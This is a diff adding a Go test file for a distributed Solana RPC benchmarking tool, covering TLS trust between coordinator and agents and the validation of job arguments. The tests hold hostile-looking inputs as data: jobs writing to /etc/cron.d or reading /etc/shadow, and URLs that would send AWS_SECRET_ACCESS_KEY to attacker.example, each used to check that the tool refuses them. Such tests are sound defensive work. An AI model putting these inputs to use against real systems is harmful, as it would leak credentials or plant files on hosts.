@@ -0,0 +1,292 @@
+package distributed
+
+import (
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"math/big"
+	"net"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"solana-rpc-performance-golang/bench"
+	"solana-rpc-performance-golang/rpcclient"
+)
+
+// selfSigned writes a self-signed certificate for 127.0.0.1 and its key
+// to dir, returning their paths.
+func selfSigned(t *testing.T, dir string) (certFile, keyFile string) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	template := &x509.Certificate{
+		SerialNumber:          big.NewInt(1),
+		Subject:               pkix.Name{CommonName: "coordinator"},
+		IPAddresses:           []net.IP{net.IPv4(127, 0, 0, 1)},
+		NotBefore:             time.Now().Add(-time.Hour),
+		NotAfter:              time.Now().Add(time.Hour),
+		KeyUsage:              x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
+		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+		BasicConstraintsValid: true,
+		IsCA:                  true,
+	}
+	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keyDER, err := x509.MarshalECPrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	certFile, keyFile = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
+	if err := os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return certFile, keyFile
+}
+
+// testRun is a coordinator serving TLS on a local port, and an agent
+// config trusting it.
+type testRun struct {
+	coordinator *Coordinator
+	addr        string
+	agentCA     string
+	results     chan *Results
+	errs        chan error
+}
+
+// startCoordinator starts c on a local port, with a fresh certificate.
+func startCoordinator(t *testing.T, c *Coordinator) *testRun {
+	t.Helper()
+	certFile, keyFile := selfSigned(t, t.TempDir())
+	config, err := ServerTLS(certFile, keyFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.TLS = config
+	c.StartDelay = time.Millisecond
+	lis, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	t.Cleanup(cancel)
+	run := &testRun{coordinator: c, addr: lis.Addr().String(), agentCA: certFile, results: make(chan *Results, 1), errs: make(chan error, 1)}
+	go func() {
+		results, err := c.Run(ctx, lis)
+		run.results <- results
+		run.errs <- err
+	}()
+	return run
+}
+
+// agent returns an agent named name trusting the run's coordinator and
+// reporting requests failed requests.
+func (r *testRun) agent(t *testing.T, name string, requests int) *Agent {
+	t.Helper()
+	config, err := ClientTLS(r.agentCA)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &Agent{
+		Name: name,
+		TLS:  config,
+		Run: func(ctx context.Context, job Job, send func([]rpcclient.Result)) (*bench.BenchmarkStats, error) {
+			return &bench.BenchmarkStats{TotalRequests: requests, FailedRequests: requests}, nil
+		},
+	}
+}
+
+// joined returns how many agents the coordinator has counted in.
+func (r *testRun) joined() int {
+	r.coordinator.mu.Lock()
+	defer r.coordinator.mu.Unlock()
+	return len(r.coordinator.joined)
+}
+
+// waitJoined waits for the coordinator to have counted in n agents.
+func (r *testRun) waitJoined(t *testing.T, n int) {
+	t.Helper()
+	for deadline := time.Now().Add(5 * time.Second); r.joined() != n; {
+		if time.Now().After(deadline) {
+			t.Fatalf("%d agents joined, want %d", r.joined(), n)
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+func (r *testRun) wait(t *testing.T) *Results {
+	t.Helper()
+	results, err := <-r.results, <-r.errs
+	if err != nil {
+		t.Fatal(err)
+	}
+	return results
+}
+
+func TestDistributedRun(t *testing.T) {
+	run := startCoordinator(t, &Coordinator{Agents: 2, Job: Job{Args: []string{"https://rpc.example.com", "5", "--rate", "10", "--keep-samples"}}})
+	for _, agent := range []*Agent{run.agent(t, "a", 3), run.agent(t, "a", 4)} {
+		go agent.RunOnce(context.Background(), run.addr)
+	}
+	results := run.wait(t)
+	if len(results.Agents) != 2 || results.Agents[0].Agent != "a" || results.Agents[1].Agent != "a-2" {
+		t.Fatalf("agents = %+v, want a and a-2", results.Agents)
+	}
+	for _, agent := range results.Agents {
+		if agent.Error != "" {
+			t.Errorf("agent %s failed: %s", agent.Agent, agent.Error)
+		}
+	}
+	if results.Stats.TotalRequests != 7 {
+		t.Errorf("merged %d requests, want 7", results.Stats.TotalRequests)
+	}
+}
+
+func TestAgentRefusesJob(t *testing.T) {
+	run := startCoordinator(t, &Coordinator{Agents: 1, Job: Job{Args: []string{"https://rpc.example.com", "--output", "/etc/cron.d/bench"}}})
+	ran := false
+	agent := run.agent(t, "a", 1)
+	agent.Run = func(ctx context.Context, job Job, send func([]rpcclient.Result)) (*bench.BenchmarkStats, error) {
+		ran = true
+		return nil, nil
+	}
+	if err := agent.RunOnce(context.Background(), run.addr); err != nil {
+		t.Fatal(err)
+	}
+	results, err := <-run.results, <-run.errs
+	if err == nil {
+		t.Error("the run succeeded with no agent running the job")
+	}
+	if ran {
+		t.Error("the agent ran a job writing a file")
+	}
+	if len(results.Agents) != 1 || !strings.Contains(results.Agents[0].Error, "-output") {
+		t.Errorf("agents = %+v, want the agent refusing -output", results.Agents)
+	}
+}
+
+func TestAgentRefusesUntrustedCoordinator(t *testing.T) {
+	run := startCoordinator(t, &Coordinator{Agents: 1})
+	agent := run.agent(t, "a", 1)
+	// A certificate of its own, which the coordinator's doesn't match.
+	other, _ := selfSigned(t, t.TempDir())
+	config, err := ClientTLS(other)
+	if err != nil {
+		t.Fatal(err)
+	}
+	agent.TLS = config
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	if err := agent.Serve(ctx, run.addr, time.Millisecond); err == nil || !strings.Contains(err.Error(), "certificate") {
+		t.Errorf("Serve = %v, want a certificate error", err)
+	}
+	if n := run.joined(); n != 0 {
+		t.Errorf("%d agents joined through an untrusted connection", n)
+	}
+}
+
+func TestCoordinatorDropsAgentsLeavingBeforeStart(t *testing.T) {
+	run := startCoordinator(t, &Coordinator{Agents: 2})
+	ctx, cancel := context.WithCancel(context.Background())
+	agent, gone := run.agent(t, "gone", 1), make(chan struct{})
+	go func() {
+		agent.RunOnce(ctx, run.addr)
+		close(gone)
+	}()
+	run.waitJoined(t, 1)
+	cancel()
+	<-gone
+	run.waitJoined(t, 0)
+
+	for _, name := range []string{"a", "b"} {
+		go run.agent(t, name, 1).RunOnce(context.Background(), run.addr)
+	}
+	results := run.wait(t)
+	if len(results.Agents) != 2 {
+		t.Fatalf("agents = %+v, want a and b", results.Agents)
+	}
+	for _, agent := range results.Agents {
+		if agent.Agent == "gone" || agent.Error != "" {
+			t.Errorf("agent %s in the run, error %q", agent.Agent, agent.Error)
+		}
+	}
+}
+
+func TestJobCheck(t *testing.T) {
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{args: []string{"https://rpc.example.com", "100"}},
+		{args: []string{"https://rpc.example.com", "--rate", "200", "--duration=5m", "--header", "Authorization: Bearer ${KEY}"}},
+		{args: []string{"-methods", "getSlot", "--keep-samples", "--validate-schemas=true", "https://rpc.example.com"}},
+		{args: []string{"https://rpc.example.com", "--send-tx", "10"}, want: "-send-tx"},
+		{args: []string{"https://rpc.example.com", "--keypair=/root/id.json"}, want: "-keypair"},
+		{args: []string{"-output", "out.json", "https://rpc.example.com"}, want: "-output"},
+		{args: []string{"https://rpc.example.com", "--har", "x.har"}, want: "-har"},
+		{args: []string{"https://rpc.example.com", "--store", "runs.db"}, want: "-store"},
+		{args: []string{"https://rpc.example.com", "--upload", "s3://bucket"}, want: "-upload"},
+		{args: []string{"https://rpc.example.com", "--accounts", "/etc/shadow"}, want: "-accounts"},
+		{args: []string{"https://rpc.example.com", "--jito", "https://engine"}, want: "-jito"},
+		{args: []string{"https://rpc.example.com", "-v"}, want: "-v"},
+		{args: []string{"https://rpc.example.com", "--", "--output"}, want: `"--"`},
+		// A flag's value is not taken for a flag.
+		{args: []string{"https://rpc.example.com", "--methods", "-output"}},
+	}
+	for _, tt := range tests {
+		err := Job{Args: tt.args}.Check()
+		if tt.want == "" && err != nil {
+			t.Errorf("Check(%q) = %v, want ok", tt.args, err)
+		}
+		if tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)) {
+			t.Errorf("Check(%q) = %v, want a refusal of %s", tt.args, err, tt.want)
+		}
+	}
+}
+
+func TestJobExpand(t *testing.T) {
+	t.Setenv("RPC_KEY", "k3y")
+	t.Setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
+	tests := []struct {
+		args    []string
+		allowed []string
+		want    []string
+		err     string
+	}{
+		{args: []string{"https://rpc.example.com", "100"}, want: []string{"https://rpc.example.com", "100"}},
+		{
+			args:    []string{"https://rpc.example.com/?api-key=${RPC_KEY}", "--header", "X-Key: $RPC_KEY"},
+			allowed: []string{"RPC_KEY"},
+			want:    []string{"https://rpc.example.com/?api-key=k3y", "--header", "X-Key: k3y"},
+		},
+		{args: []string{"https://attacker.example/?k=${AWS_SECRET_ACCESS_KEY}"}, err: "${AWS_SECRET_ACCESS_KEY}"},
+		{args: []string{"https://rpc.example.com", "--header", "X-Key: ${AWS_SECRET_ACCESS_KEY}"}, allowed: []string{"RPC_KEY"}, err: "${AWS_SECRET_ACCESS_KEY}"},
+		{args: []string{"https://attacker.example/?k=$AWS_SECRET_ACCESS_KEY"}, allowed: []string{"RPC_KEY"}, err: "${AWS_SECRET_ACCESS_KEY}"},
+	}
+	for _, tt := range tests {
+		got, err := Job{Args: tt.args}.Expand(tt.allowed)
+		if tt.err != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.err) || strings.Contains(strings.Join(got.Args, " "), "s3cret") {
+				t.Errorf("Expand(%q) = %q, %v; want an error naming %s", tt.args, got.Args, err, tt.err)
+			}
+			continue
+		}
+		if err != nil || !slices.Equal(got.Args, tt.want) {
+			t.Errorf("Expand(%q) = %q, %v; want %q", tt.args, got.Args, err, tt.want)
+		}
+	}
+}